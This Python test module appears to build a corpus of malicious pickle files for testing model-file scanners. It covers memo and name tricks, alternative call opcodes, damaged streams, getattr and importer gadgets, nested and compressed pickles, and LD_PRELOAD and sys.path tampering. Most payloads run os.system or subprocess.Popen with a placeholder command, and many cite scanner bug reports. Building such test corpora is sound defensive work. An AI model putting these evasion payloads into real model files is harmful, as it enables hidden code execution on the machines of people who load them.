"""Streams built to mislead whoever reads them: memo, stack, frames, damage, names that are computed, nesting."""

from __future__ import annotations

import pickle
import struct
import zlib
from collections.abc import Iterator

from tests.trust.corpus import Sample
from tests.trust.corpus.opcodes import (
    COMMAND,
    PAYLOAD,
    blob,
    call,
    checkpoint,
    framed,
    list_of,
    name,
    stream,
    text,
    tuple_of,
)

SYSTEM = call("os", "system", COMMAND)
_ARGUMENTS = tuple_of(COMMAND)


def samples() -> Iterator[Sample]:
    """Every trick as the only file of a package."""
    for what, (data, source) in {**_names(), **_stack(), **_damage(), **_reach(), **_nesting(), **_states()}.items():
        yield Sample(f"pickle tricks/{what}", {"model.pkl": data}, source=source)


def _names() -> dict[str, tuple[bytes, str]]:
    """Where the name comes from."""
    short = b"\x8c\x02os\x94\x8c\x06system\x94"
    return {
        "memo mixed from PUT and MEMOIZE": (
            b"\x80\x04"
            + text("os")
            + b"q\x000"
            + text("system")
            + b"q\x010"
            + text("torch._utils")
            + b"\x940"
            + text("_rebuild_tensor_v2")
            + b"\x940h\x00h\x01\x93"
            + _ARGUMENTS
            + b"R.",
            "picklescan issue 14",
        ),
        "memo overwritten before use": (
            stream(
                text("collections"),
                b"q\x000",
                text("os"),
                b"q\x000",
                b"h\x00",
                text("system"),
                b"\x93",
                _ARGUMENTS,
                b"R",
            ),
            "picklescan issue 22",
        ),
        "memo read by LONG_BINGET": (
            stream(
                text("os"),
                b"r\x00\x01\x00\x000",
                text("system"),
                b"r\x01\x01\x00\x000",
                b"j\x00\x01\x00\x00j\x01\x01\x00\x00\x93",
                _ARGUMENTS,
                b"R",
            ),
            "",
        ),
        "memo index far away": (
            stream(text("os"), b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f", text("system"), b"\x93", _ARGUMENTS, b"R"),
            "",
        ),
        "memo by text index": (b"Vos\np7\n0Vsystem\np8\n0g7\ng8\n\x93(S'echo pwned'\ntR.", ""),
        "name duplicated by DUP": (
            stream(text("system"), text("os"), b"2\x94000", text("os"), text("system"), b"\x93", _ARGUMENTS, b"R"),
            "",
        ),
        "name from bytes strings": (b"\x80\x02U\x02osU\x06system\x93(U\x0aecho pwnedtR.", "modelscan pull 313"),
        "name from STRING": (b"\x80\x02S'os'\nS'system'\n\x93(S'echo pwned'\ntR.", "modelscan pull 313"),
        "name split by frames": (
            b"\x80\x04\x95" + struct.pack("<Q", len(short)) + short + b"\x93" + _ARGUMENTS + b"R.",
            "",
        ),
        "name with escapes in UNICODE": (b"V\\u006fs\nV\\u0073ystem\n\x93(V" + COMMAND.encode() + b"\ntR.", ""),
        "name with white space around GLOBAL": (b'cposix\nsystem\n(S"echo pwned"\ntR.', ""),
        "dotted name": (stream(call("collections", "_sys.modules.get", "os")), ""),
        "dotted name through a library": (
            stream(call("torch.serialization", "os.system", COMMAND)),
            "arXiv 2508.19774",
        ),
        "dotted name through numpy": (stream(call("numpy", "f2py.os.system", COMMAND)), ""),
        "module under its alias": (stream(call("six.moves.builtins", "eval", "1")), ""),
        "python 2 name": (b"c__builtin__\neval\n(S'1'\ntR.", ""),
        "python 2 module of renamed functions": (b"ccommands\ngetoutput\n(S'id'\ntR.", ""),
        "copy_reg extension code": (b"\x80\x02\x82\x05(S'echo pwned'\ntR.", ""),
        "copy_reg extension of four bytes": (b"\x80\x02\x84\x01\x02\x00\x00(S'echo pwned'\ntR.", ""),
        "extension registered by the stream": (
            stream(call("copyreg", "add_extension", "os", "system", b"K\x07"), b"0\x82\x07", _ARGUMENTS, b"R"),
            "",
        ),
        "name computed by a call": (
            stream(call("builtins", "str.join", "", list_of("o", "s")), text("system"), b"\x93", _ARGUMENTS, b"R"),
            "",
        ),
        "persistent id that names a function": (
            stream(text("x"), name("os", "system"), b"\x86Q", _ARGUMENTS, b"R"),
            "",
        ),
        "persistent id by text": (b"Pos.system\n(S'echo pwned'\ntR.", ""),
    }


def _stack() -> dict[str, tuple[bytes, str]]:
    """How the call is made."""
    return {
        "INST": (b"(S'echo pwned'\nios\nsystem\n.", "fickling pull 108"),
        "OBJ": (b"(cos\nsystem\nS'echo pwned'\no.", "fickling pull 108"),
        "NEWOBJ": (stream(name("subprocess", "Popen"), _ARGUMENTS, b"\x81"), ""),
        "NEWOBJ_EX": (stream(name("subprocess", "Popen"), b")}", text("args"), text(COMMAND), b"s\x92"), ""),
        "result popped": (stream(SYSTEM, b"0N"), "fickling, call that vanished from the tree"),
        "result popped by POP_MARK": (stream(b"N(", SYSTEM, b"1"), ""),
        "in a list": (stream(b"](K\x01", SYSTEM, b"e"), ""),
        "in a set": (stream(b"\x8f(K\x01", SYSTEM, b"\x90"), ""),
        "in a frozen set": (stream(b"(", SYSTEM, b"\x91"), ""),
        "as a key": (stream(b"}", SYSTEM, b"K\x01s"), ""),
        "as an argument of something harmless": (
            stream(name("collections", "OrderedDict"), tuple_of(list_of(tuple_of("a", SYSTEM))), b"R"),
            "",
        ),
        "in the state of something harmless": (checkpoint(attack=SYSTEM), ""),
        "after a checkpoint's values": (stream(b"}", text("w"), b"K\x01s0", SYSTEM, b"0}"), ""),
        "no PROTO": (SYSTEM + b".", ""),
        "two PROTO": (b"\x80\x02\x80\x04" + SYSTEM + b".", ""),
        "build with a callable state": (stream(call("builtins", "Exception"), text("gottem"), b"b", SYSTEM), ""),
        "fickling GHSA-r7v6": (framed(call("pty", "spawn", "id"), text("gottem"), b"b"), "GHSA-r7v6-mfhq-g3m2"),
        "partial, then called": (stream(call("functools", "partial", name("os", "system"), COMMAND), b")R"), ""),
        "map": (stream(call("builtins", "list", call("builtins", "map", name("os", "system"), list_of(COMMAND)))), ""),
        "reduce": (stream(call("functools", "reduce", name("os", "system"), list_of(COMMAND))), ""),
        "starmap": (stream(call("itertools", "starmap", name("os", "system"), list_of(tuple_of(COMMAND)))), ""),
        "sorted with a key": (stream(call("builtins", "sorted", list_of(COMMAND), name("os", "system"))), ""),
        "default factory": (stream(call("collections", "defaultdict", name("builtins", "breakpoint"))), ""),
        "weak finaliser": (stream(call("weakref", "finalize", b"}", name("os", "system"), COMMAND)), ""),
        "ExitStack callback": (
            stream(call("contextlib", "ExitStack.callback", b"}", name("os", "system"), COMMAND)),
            "",
        ),
        "singledispatch": (stream(call("functools", "singledispatch", name("os", "system"))), ""),
        "type with methods": (
            stream(
                call("builtins", "type", "X", tuple_of(), b"}" + text("__del__") + name("os", "system") + b"s"), b")R"
            ),
            "",
        ),
    }


def _damage() -> dict[str, tuple[bytes, str]]:
    """Broken where a scanner stops, and where an unpickler has done its work already."""
    frame = b"\x80\x04\x95" + b"\xff" * 7 + b"\x7f"
    return {
        "no STOP": (stream(SYSTEM)[:-1], "modelscan pull 313"),
        "broken end": (stream(SYSTEM)[:-1] + b"\xff\xff", "GHSA-9gvj-pp9x-gcfr"),
        "unknown memo index after the attack": (stream(SYSTEM, b"h\x77"), "GHSA-9gvj-pp9x-gcfr, modelscan pull 348"),
        "GET of a text that is no number": (stream(SYSTEM, b"gabc\n"), "GHSA-9gvj-pp9x-gcfr"),
        "stack underflow after the attack": (stream(SYSTEM, b"0000"), ""),
        "STACK_GLOBAL without names after the attack": (stream(SYSTEM, b"00\x93"), "picklescan, ValueError"),
        "text that is no UTF-8 after the attack": (stream(SYSTEM, b"X\x02\x00\x00\x00\xff\xfe"), "arXiv 2508.19774"),
        "length beyond the end after the attack": (stream(SYSTEM, b"X\xff\xff\xff\x7f"), ""),
        "frame too long": (frame + SYSTEM + b".", ""),
        "frame too short": (b"\x80\x04\x95" + struct.pack("<Q", 3) + SYSTEM + b".", ""),
        "negative LONG4 length": (stream(SYSTEM, b"\x8b\xff\xff\xff\xff"), ""),
        "float that is none": (stream(SYSTEM, b"Fx\n"), ""),
        "quotes that do not match": (stream(SYSTEM, b"S'x\n"), ""),
        "garbage before, as a second stream": (pickle.dumps([1, 2]) + PAYLOAD, ""),
        "after three harmless streams": (pickle.dumps(1) * 3 + PAYLOAD, ""),
        "behind a megabyte of numbers": (framed(blob(b"\1" * 1_000_000), b"0", SYSTEM), ""),
        "behind many opcodes": (stream(b"N0" * 60_000, SYSTEM), ""),
        "legacy torch magic, then the attack": (
            pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + PAYLOAD,
            "",
        ),
    }


def _reach() -> dict[str, tuple[bytes, str]]:
    """From something harmless to the interpreter."""
    get = "builtins", "getattr"
    return {
        "getattr of a module": (stream(call(*get, name("posixpath", "os"), "system"), _ARGUMENTS, b"R"), ""),
        "getattr of an imported module": (
            stream(call(*get, call("importlib", "import_module", "os"), "system"), _ARGUMENTS, b"R"),
            "GHSA-q5qq-mvfm-j35x",
        ),
        "getattr of a library handle": (
            stream(call(*get, call("ctypes", "CDLL", "libc.so.6"), "system"), tuple_of(blob(b"id")), b"R"),
            "GHSA-5hvc-6wx8-mvv4",
        ),
        "getattr of an interpreter": (
            stream(call(*get, call("code", "InteractiveInterpreter"), "runsource"), tuple_of("1"), b"R"),
            "GHSA-q5qq-mvfm-j35x",
        ),
        "attrgetter of a module": (
            stream(
                call("operator", "attrgetter", "system"),
                tuple_of(call("builtins", "__import__", "os")),
                b"R",
                _ARGUMENTS,
                b"R",
            ),
            "GHSA-m273-6v24-x4m4",
        ),
        "itemgetter of the modules": (
            stream(call("operator", "itemgetter", "os"), tuple_of(name("sys", "modules")), b"R"),
            "GHSA-955r-x9j8-7rhh",
        ),
        "globals of a function": (stream(call("collections", "OrderedDict.__init__.__globals__.get", "x")), ""),
        "builtins of a function": (
            stream(
                name("collections", "namedtuple.__globals__"),
                b"0",
                call("collections", "namedtuple.__builtins__.get", "eval"),
            ),
            "",
        ),
        "subclasses of object": (stream(call("builtins", "object.__subclasses__")), ""),
        "code of a function": (stream(name("collections", "namedtuple"), b"N}", text("__code__"), b"Ns\x86b"), ""),
        "resolve_name": (stream(call("pkgutil", "resolve_name", "os:system"), _ARGUMENTS, b"R"), "GHSA-vvpj-8cmc-gx39"),
        "locate": (stream(call("pydoc", "locate", "os.system"), _ARGUMENTS, b"R"), "GHSA-5hvc-6wx8-mvv4"),
        "torch's own importer": (
            stream(call("torch._utils", "_import_dotted_name", "os.system"), _ARGUMENTS, b"R"),
            "",
        ),
        "a function rebuilt from code": (
            stream(call("types", "FunctionType", call("marshal", "loads", blob(b"\xe3")), b"}"), b")R"),
            "GHSA-565g-hwwr-4pp3",
        ),
        "a module object filled": (
            stream(call("types", "ModuleType", "os"), b"}", text("system"), name("os", "system"), b"sb"),
            "",
        ),
        "sys.modules replaced": (
            stream(name("sys", "modules"), text("torch"), name("sys", "modules"), b"s", call("torch", "get", "os")),
            "picklescan, sys_module_override",
        ),
        "methodcaller": (
            stream(call("operator", "methodcaller", "system", COMMAND), tuple_of(name("posixpath", "os")), b"R"),
            "",
        ),
        "eval of concatenated text": (
            stream(call("builtins", "eval", call("builtins", "str.join", "", list_of("__imp", "ort__")))),
            "",
        ),
        "subinterpreter": (
            stream(call("_interpreters", "run_string", call("_interpreters", "create"), "1"), b"0N"),
            "GHSA-6ggj-6f2q-f7mx",
        ),
    }


def _nesting() -> dict[str, tuple[bytes, str]]:
    """A pickle in a pickle, and streams that grow."""
    inner = blob(PAYLOAD)
    growth = b"".join(b"(" + b"h\x00" * 10 + b"lq\x000" for _ in range(30))
    return {
        "pickle.loads": (stream(call("pickle", "loads", inner)), "GHSA-84r2-jw7c-4r5q"),
        "_pickle.loads": (stream(call("_pickle", "loads", inner)), ""),
        "torch's bytes": (stream(call("torch.storage", "_load_from_bytes", inner)), ""),
        "torch's bytes, inside torch's bytes": (
            stream(
                call(
                    "torch.storage", "_load_from_bytes", blob(stream(call("torch.storage", "_load_from_bytes", inner)))
                )
            ),
            "",
        ),
        "decoder of torch data": (
            stream(call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pkl", inner)),
            "picklescan",
        ),
        "joblib reads a file": (stream(call("joblib", "load", "/tmp/x.pkl")), ""),
        "decompressed first": (
            stream(call("pickle", "loads", call("zlib", "decompress", blob(zlib.compress(PAYLOAD))))),
            "",
        ),
        "decoded first": (stream(call("pickle", "loads", call("base64", "b64decode", "gASV"))), ""),
        "BytesIO": (stream(call("pickle", "load", call("io", "BytesIO", inner))), ""),
        "billion laughs, then the attack": (stream(b"]q\x000", growth, SYSTEM), ""),
        "dill source function": (
            stream(call("dill._dill", "_create_function", call("dill._dill", "_create_code", blob(b"x")), b"}"), b")R"),
            "",
        ),
        "cloudpickle function": (
            stream(call("cloudpickle.cloudpickle", "_make_function", call("types", "CodeType", b"K\x00"), b"}"), b")R"),
            "",
        ),
        "cloudpickle module": (stream(call("cloudpickle.cloudpickle", "subimport", "os")), ""),
        "pandas reads a pickle": (stream(call("pandas", "read_pickle", "http://127.0.0.1/x.pkl")), ""),
    }


def _states() -> dict[str, tuple[bytes, str]]:
    """What BUILD, APPEND and SETITEM change."""
    return {
        "attributes of a class": (stream(name("collections", "OrderedDict"), b"N}", text("x"), b"K\x01s\x86b"), ""),
        "attributes of a module": (stream(name("torch", "nn"), b"}", text("Linear"), name("os", "system"), b"sb"), ""),
        "items of an environment": (stream(name("os", "environ"), text("LD_PRELOAD"), text("/tmp/x.so"), b"s"), ""),
        "path of the importer": (stream(name("sys", "path"), text("/tmp"), b"a"), ""),
        "slots of a state": (
            stream(call("collections", "OrderedDict"), b"N}", text("__class__"), name("os", "_wrap_close"), b"s\x86b"),
            "",
        ),
        "rebuild with another function": (
            stream(
                call(
                    "torch._tensor",
                    "_rebuild_from_type_v2",
                    name("os", "system"),
                    name("torch", "Tensor"),
                    _ARGUMENTS,
                    b"N",
                )
            ),
            "",
        ),
        "reconstruct another base": (
            stream(
                call("copyreg", "_reconstructor", name("subprocess", "Popen"), name("subprocess", "Popen"), COMMAND)
            ),
            "",
        ),
        "newobj of a process": (stream(call("copyreg", "__newobj__", name("subprocess", "Popen"), COMMAND)), ""),
        "memory taken for objects": (
            stream(
                call("numpy", "dtype", "O8", b"\x89\x88"),
                tuple_of(b"K\x03", "|", b"N", b"N", b"N", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x00"),
                b"b",
            ),
            "",
        ),
    }
